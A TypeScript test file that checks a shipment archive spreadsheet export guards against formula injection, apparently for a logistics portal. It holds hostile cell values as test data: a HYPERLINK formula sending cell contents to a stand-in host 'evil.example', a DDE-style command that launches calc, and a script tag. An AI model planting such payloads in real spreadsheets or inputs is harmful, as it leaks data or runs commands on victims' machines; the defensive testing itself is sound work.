import ExcelJS from 'exceljs'
import { beforeAll, describe, expect, it } from 'vitest'
import { guardCell as portalGuard } from '#domain/export/spreadsheet-cell'
import { guardCell as fixtureGuard } from '#fixture-api/documents/spreadsheet-cell'
import { buildOrderPayload, locationByCode, toQuery } from './testing/factories'
import { type Client, client, startSession, type TestApi } from './testing/harness'

/** Issue 24: the fixture's shipment export writes a customer's formula-like text as text. */

const HOSTILE_REFERENCE = '=HYPERLINK("http://evil.example/?x="&A1;"Rechnung")'

let api: TestApi
let customer: Client

beforeAll(async () => {
  ;({ api, user: customer } = await startSession('customer'))
})

async function archivedShipmentWithReference(reference: string): Promise<number> {
  const [bern, zurich] = await Promise.all([
    locationByCode(customer, '3011'),
    locationByCode(customer, '8001'),
  ])
  const created = await customer.post(
    '/api/v2/shipments/create',
    buildOrderPayload({ rechnungsbeschreibung_offiziell: reference }, { from: bern, to: zurich }),
  )
  expect(created.status, JSON.stringify(created.body)).toBe(201)
  const id = created.body.id as number
  const advanced = await client(api).post('/__fixture/shipments/advance', { key: id, to: 'delivered' })
  expect(advanced.body).toMatchObject({ list: 'archive' })
  return id
}

describe('GET /api/v2/shipments/archive/export and formula injection', () => {
  it('writes a shipment whose reference is =HYPERLINK(…) as a text cell behind a single quote', async () => {
    const id = await archivedShipmentWithReference(HOSTILE_REFERENCE)
    const reply = await customer.get(
      `/api/v2/shipments/archive/export${toQuery({ locale: 'en', 'filter[orderList]': String(id) })}`,
    )
    expect(reply.status).toBe(200)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(Buffer.from(reply.body as Uint8Array) as unknown as ArrayBuffer)
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet
    const headers = (sheet.getRow(1).values as unknown[]).slice(1)
    const cell = sheet.getRow(2).getCell(headers.indexOf('Reference') + 1)

    expect(cell.type).toBe(ExcelJS.ValueType.String)
    expect(cell.formula).toBeUndefined()
    expect(cell.value).toBe(`'${HOSTILE_REFERENCE}`)
    // The other columns keep their types: the colis count is still a number cell.
    expect(sheet.getRow(2).getCell(headers.indexOf('Colis') + 1).type).toBe(ExcelJS.ValueType.Number)
  })

  it('guards like the portal’s exports: the fixture’s copy of the guard agrees on every hostile cell', () => {
    const cells = [
      HOSTILE_REFERENCE,
      '+cmd|" /C calc"!A0',
      '-1+1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\u0000=1',
      '<script>alert(1)</script>',
      'a\u0007b',
      'Muster AG',
      '',
    ]
    expect(cells.map(fixtureGuard)).toEqual(cells.map(portalGuard))
  })
})
